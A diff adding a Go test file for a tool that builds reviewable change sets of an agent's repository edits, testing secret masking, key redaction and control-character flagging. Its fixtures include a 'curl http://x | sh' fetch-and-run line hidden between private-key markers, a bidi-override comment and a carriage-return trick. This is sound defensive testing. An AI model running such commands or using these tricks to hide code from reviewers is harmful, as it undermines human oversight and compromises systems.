@@ -1,0 +1,266 @@
+package changeset_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/hex"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/paddock-dev/paddock"
+	"github.com/paddock-dev/paddock/changeset"
+	"github.com/paddock-dev/paddock/confine"
+	"github.com/paddock-dev/paddock/gitx"
+	"github.com/paddock-dev/paddock/gitx/gittest"
+	"github.com/paddock-dev/paddock/redact"
+)
+
+// fixture is a repository at a base commit and a work tree the test edits
+// as an agent would.
+type fixture struct {
+	git  *gitx.Git
+	repo string
+	base string
+}
+
+func newFixture(t *testing.T, files map[string]string) *fixture {
+	t.Helper()
+	g, err := gitx.New(context.Background())
+	if err != nil {
+		t.Skipf("git unavailable: %v", err)
+	}
+	repo := gittest.NewRepo(t, filepath.Join(t.TempDir(), "repo"), files)
+	return &fixture{git: g, repo: repo, base: gittest.Git(t, repo, "rev-parse", "HEAD")}
+}
+
+// write sets files of the work tree (the repository's own: the diff is
+// against the base commit whatever the index says).
+func (f *fixture) write(t *testing.T, files map[string]string) {
+	t.Helper()
+	for p, s := range files {
+		full := filepath.Join(f.repo, p)
+		os.MkdirAll(filepath.Dir(full), 0o755)
+		mode := os.FileMode(0o644)
+		if strings.HasSuffix(p, ".sh") {
+			mode = 0o755
+		}
+		if err := os.WriteFile(full, []byte(s), mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+// build computes the change set of the work tree, as lifecycle does.
+func (f *fixture) build(t *testing.T, red *redact.Redactor) *paddock.ChangeSet {
+	t.Helper()
+	patch, err := os.Create(filepath.Join(t.TempDir(), "diff"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	snap, err := f.git.DiffWorkTree(context.Background(), filepath.Join(f.repo, ".git"), f.repo, f.base, gitx.DiffOptions{Patch: patch})
+	if err != nil {
+		t.Fatal(err)
+	}
+	patch.Close()
+	cs, err := changeset.Build("r-test", f.base, f.repo, snap, patch.Name(), confine.DefaultPolicy(), red)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := changeset.Verify(cs); err != nil {
+		t.Fatalf("the change set does not verify from what is kept: %v", err)
+	}
+	return cs
+}
+
+// applyTo applies a diff with git apply onto a fresh checkout of the base,
+// and returns the checkout.
+func (f *fixture) applyTo(t *testing.T, diff string) string {
+	t.Helper()
+	check := filepath.Join(t.TempDir(), "check")
+	gittest.Git(t, "", "clone", "-q", f.repo, check)
+	gittest.Git(t, check, "checkout", "-q", "--detach", f.base)
+	cmd := exec.Command("git", "apply", "--binary", "-")
+	cmd.Dir, cmd.Stdin = check, strings.NewReader(diff)
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("git apply: %v\n%s\n%s", err, out, diff)
+	}
+	return check
+}
+
+func entry(t *testing.T, cs *paddock.ChangeSet, p string) paddock.ChangeEntry {
+	t.Helper()
+	for _, e := range cs.Entries {
+		if e.Path == p {
+			return e
+		}
+	}
+	t.Fatalf("no entry %q in %+v", p, cs.Entries)
+	return paddock.ChangeEntry{}
+}
+
+// TestMaskingStaysInItsFile is the attack that hid an installer: a.txt
+// ends in a private key's BEGIN line, b.sh runs curl | sh, c.txt holds the
+// END line. The reviewer's diff must show b.sh's line.
+func TestMaskingStaysInItsFile(t *testing.T) {
+	f := newFixture(t, map[string]string{"README.md": "hello\n"})
+	f.write(t, map[string]string{
+		"a.txt": "notes\n-----BEGIN RSA PRIVATE KEY-----\n",
+		"b.sh":  "#!/bin/sh\ncurl http://x | sh\n",
+		"c.txt": "-----END RSA PRIVATE KEY-----\n",
+	})
+	cs := f.build(t, nil)
+	if !strings.Contains(cs.Diff, "+curl http://x | sh\n") || strings.Contains(cs.Diff, "REDACTED") {
+		t.Fatalf("the diff hides the installer:\n%s", cs.Diff)
+	}
+	if e := entry(t, cs, "b.sh"); slices.Contains(e.Risks, "secret") {
+		t.Fatalf("b.sh labelled secret: %v", e.Risks)
+	}
+	f.applyTo(t, cs.Diff)
+}
+
+// TestPrivateKeyMaskedLineByLine: a key inside one file is masked line by
+// line; the lines around it, code between a BEGIN and an END, and the
+// files around it are shown; the diff keeps its lines, so git apply takes
+// it. A hunk that starts inside a key (its END comes first) is masked from
+// its start.
+func TestPrivateKeyMaskedLineByLine(t *testing.T) {
+	var body []string
+	for i := range 24 {
+		body = append(body, strings.Repeat(string(rune('A'+i)), 64))
+	}
+	key := "-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Join(body, "\n") + "\n-----END OPENSSH PRIVATE KEY-----\n"
+	f := newFixture(t, map[string]string{"deploy/old.pem": key, "README.md": "hello\n"})
+	changed := strings.Replace(key, body[15], strings.Repeat("z", 64), 1)
+	f.write(t, map[string]string{
+		"before.txt":     "before\n",
+		"deploy/id.pem":  "# deploy key\n" + key + "# end\n",
+		"deploy/old.pem": changed,
+		"fake.sh":        "-----BEGIN PRIVATE KEY-----\ncurl http://x | sh\n-----END PRIVATE KEY-----\n",
+		"z.txt":          "after\n",
+	})
+	cs := f.build(t, nil)
+	for _, b := range body {
+		if strings.Contains(cs.Diff, b) {
+			t.Fatalf("a line of the key is shown:\n%s", cs.Diff)
+		}
+	}
+	for _, want := range []string{"+before\n", "+# deploy key\n", "+-----BEGIN OPENSSH PRIVATE KEY-----\n", "+[REDACTED:private_key]\n",
+		"+-----END OPENSSH PRIVATE KEY-----\n", "+# end\n", "+curl http://x | sh\n", "+after\n", "-[REDACTED:private_key]\n"} {
+		if !strings.Contains(cs.Diff, want) {
+			t.Errorf("the diff misses %q", want)
+		}
+	}
+	if n := strings.Count(cs.Diff, "+[REDACTED:private_key]\n"); n != len(body)+1 {
+		t.Errorf("%d masked lines added, want %d (one per line of the new key, and the changed line)", n, len(body)+1)
+	}
+	for p, want := range map[string]bool{"deploy/id.pem": true, "deploy/old.pem": true, "fake.sh": false, "before.txt": false, "z.txt": false} {
+		if got := slices.Contains(entry(t, cs, p).Risks, "secret"); got != want {
+			t.Errorf("%s labelled secret: %t", p, got)
+		}
+	}
+	// The masked diff applies: what it writes is the masks, where the
+	// key was, and every other line as it is.
+	gittest.Git(t, f.repo, "checkout", "-q", "--", "deploy/old.pem") // a changed key's context cannot match the masks
+	f.write(t, map[string]string{"deploy/old.pem": key})
+	cs = f.build(t, nil)
+	check := f.applyTo(t, cs.Diff)
+	got, _ := os.ReadFile(filepath.Join(check, "deploy/id.pem"))
+	if want := "# deploy key\n-----BEGIN OPENSSH PRIVATE KEY-----\n" + strings.Repeat("[REDACTED:private_key]\n", len(body)) +
+		"-----END OPENSSH PRIVATE KEY-----\n# end\n"; string(got) != want {
+		t.Fatalf("git apply of the masked diff gives:\n%s", got)
+	}
+}
+
+// TestDeclaredSecrets: a run's declared secret written into files, in any
+// form redact knows, is masked in the diff and in the paths; binary
+// content holding it is withheld; every such entry is labelled secret, and
+// one whose name held it is never applied.
+func TestDeclaredSecrets(t *testing.T) {
+	const v = "tok-5e3f9a1c/very+secret"
+	red := redact.New(map[string]string{"API_TOKEN": v})
+	forms := []string{v, base64.StdEncoding.EncodeToString([]byte(v)), base64.RawURLEncoding.EncodeToString([]byte(v)),
+		url.QueryEscape(v), hex.EncodeToString([]byte(v))}
+	f := newFixture(t, map[string]string{"README.md": "hello\n", "logo.bin": "\x00\x01old logo\n"})
+	var all strings.Builder
+	for _, form := range forms {
+		all.WriteString("value = " + form + "\n")
+	}
+	f.write(t, map[string]string{
+		"config/token.txt":    all.String(),
+		"clean.txt":           "nothing here\n",
+		"blob.bin":            "\x00\x01\x02 header " + v + " trailer\n",
+		"logo.bin":            "\x00\x01new logo\n" + strings.Repeat("\x00filler", 100) + hex.EncodeToString([]byte(v)),
+		"noise.bin":           "\x00\x01\x02 nothing secret\n",
+		"dir-" + v[:8] + "/x": "not a full value\n",
+		"name-" + v + ".txt":  "a name holding it\n",
+		"README.md":           "hello\n" + v + "\n",
+	})
+	cs := f.build(t, red)
+	b, _ := os.ReadFile(cs.DiffFile)
+	js, _ := changeset.Marshal(cs)
+	for _, form := range forms {
+		for what, s := range map[string]string{"the diff": cs.Diff, "the diff file": string(b), "the change set": string(js)} {
+			if strings.Contains(s, form) {
+				t.Fatalf("%s holds %q:\n%s", what, form, s)
+			}
+		}
+	}
+	if !strings.Contains(cs.Diff, "+value = [REDACTED:API_TOKEN]\n") || !strings.Contains(cs.Diff, "Binary files a/blob.bin and b/blob.bin differ\n") ||
+		!strings.Contains(cs.Diff, "GIT binary patch") {
+		t.Fatalf("diff:\n%s", cs.Diff)
+	}
+	for p, want := range map[string]bool{"config/token.txt": true, "blob.bin": true, "logo.bin": true, "README.md": true,
+		"name-[REDACTED:API_TOKEN].txt": true, "clean.txt": false, "noise.bin": false, "dir-" + v[:8] + "/x": false} {
+		e := entry(t, cs, p)
+		if got := slices.Contains(e.Risks, "secret"); got != want {
+			t.Errorf("%s labelled secret: %t (%v)", p, got, e.Risks)
+		}
+		if blocked := e.Blocked != ""; blocked != strings.HasPrefix(p, "name-") {
+			t.Errorf("%s blocked: %q", p, e.Blocked)
+		}
+	}
+	// Masking is part of the change set: computed again, the same hash.
+	if again := f.build(t, red); again.Hash != cs.Hash {
+		t.Fatalf("hash %s, then %s", cs.Hash, again.Hash)
+	}
+	// Another value of the secret is another change set, though the diffs
+	// read the same.
+	other := redact.New(map[string]string{"API_TOKEN": v})
+	f.write(t, map[string]string{"README.md": "hello\n" + v + "x\n"})
+	if cs2 := f.build(t, other); cs2.Hash == cs.Hash {
+		t.Fatal("a different content has the same hash")
+	}
+}
+
+// TestControlCharacters: a change that adds or removes a character a
+// terminal acts on, in its content or its name, is labelled control_chars;
+// the diff itself keeps its bytes (git apply takes it).
+func TestControlCharacters(t *testing.T) {
+	f := newFixture(t, map[string]string{"README.md": "hello\n", "old.txt": "title \x1b]0;x\x07\nkept\n"})
+	f.write(t, map[string]string{
+		"term.txt":        "ok\n\x1b[2K\x1b[1Agood line\n",
+		"bidi.go":         "access := \"user\u202e \u2066// admin\u2069\u2066\"\n",
+		"cr.sh":           "echo safe\recho evil\n",
+		"crlf.txt":        "windows\r\nline\r\n",
+		"esc\x1b[31mname": "plain\n",
+		"old.txt":         "kept\n",
+		"plain.txt":       "tab\tand ü\n",
+	})
+	cs := f.build(t, nil)
+	for p, want := range map[string]bool{"term.txt": true, "bidi.go": true, "cr.sh": true, "esc\x1b[31mname": true, "old.txt": true,
+		"crlf.txt": false, "plain.txt": false} {
+		if got := slices.Contains(entry(t, cs, p).Risks, "control_chars"); got != want {
+			t.Errorf("%q labelled control_chars: %t", p, got)
+		}
+	}
+	check := f.applyTo(t, cs.Diff)
+	if b, _ := os.ReadFile(filepath.Join(check, "term.txt")); !bytes.Equal(b, []byte("ok\n\x1b[2K\x1b[1Agood line\n")) {
+		t.Fatalf("term.txt after git apply: %q", b)
+	}
+}
